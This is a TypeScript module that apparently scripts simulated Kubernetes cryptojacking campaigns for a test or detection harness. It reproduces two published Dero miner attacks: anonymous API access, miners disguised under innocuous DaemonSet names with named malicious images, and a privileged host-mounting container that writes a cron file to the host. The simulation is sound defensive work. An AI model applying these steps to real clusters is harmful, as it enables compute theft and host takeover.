import { list, remove } from './calls.ts'
import { ANONYMOUS, type Attack, api, type Campaign, deploy, type Row, run, use } from './campaign.ts'

/** A DaemonSet whose miner bears another name. */
function daemonSet({ pool, nth }: Attack, at: string, base: string, image: string, binary: string): readonly Row[] {
  const name = `${base}${nth}`
  return [
    [
      at,
      2,
      deploy(ANONYMOUS, name, {
        kind: 'DaemonSet',
        namespace: 'default',
        name,
        pods: 3,
        template: {
          labels: { app: name },
          serviceAccount: 'default',
          containers: [{ name, image, process: { binary, args: [] } }]
        }
      })
    ],
    [at, 3, use(name, { to: [[pool.ip, pool.port]] })]
  ]
}

export const DERO: Campaign = {
  id: 'dero',
  title: 'Dero miner as proxy-api, and the rival that removes it',
  source: 'CrowdStrike, 2023',
  victim: 'go',
  evasions: ['own-group'],
  unseen: [],
  rows: (attack) => [
    ['0:00', 1, api(ANONYMOUS, { verb: 'get', path: '/api' }, list('pods'), list('nodes'))],
    ...daemonSet(attack, '0:40', 'proxy-api', 'docker.io/pauseyyf/pause:latest', '/tmp/pause'),
    [
      '9:00',
      4,
      api(
        ANONYMOUS,
        list('daemonsets', undefined, 'apps'),
        remove('daemonsets', 'default', `proxy-api${attack.nth}`, 'apps')
      )
    ],
    [
      '9:20',
      4,
      deploy(ANONYMOUS, 'rival', {
        kind: 'DaemonSet',
        namespace: 'default',
        name: `privileged-sync${attack.nth}`,
        pods: 2,
        template: {
          labels: { app: 'sync' },
          serviceAccount: 'default',
          hostPID: true,
          hostPaths: ['/'],
          containers: [
            {
              name: 'sync',
              image: 'docker.io/alpine:3.20',
              securityContext: { privileged: true },
              process: { binary: '/bin/sh', args: ['-c', 'sleep 1d'] }
            }
          ]
        }
      })
    ],
    ['9:40', 4, run('rival', '/usr/bin/tee /host/etc/cron.d/sync', { writes: ['/host/etc/cron.d/sync'] })]
  ]
}

export const DERO_PACKED: Campaign = {
  id: 'dero-packed',
  title: 'Dero miner, packed, under names of devices and libraries',
  source: 'Wiz, 2024',
  victim: 'go',
  evasions: ['own-group'],
  unseen: [],
  rows: (attack) => [
    ['0:00', 1, api(ANONYMOUS, { verb: 'get', path: '/version' }, list('pods'))],
    ...daemonSet(
      attack,
      '0:30',
      'k8s-device-plugin',
      'docker.io/pytorchcontainer/k8s-device-plugin:latest',
      '/tmp/k8s-device-plugin'
    ),
    ...daemonSet(attack, '1:30', 'pytorch-container', 'docker.io/pytorchcontainer/pytorch:latest', '/tmp/pytorch')
  ]
}
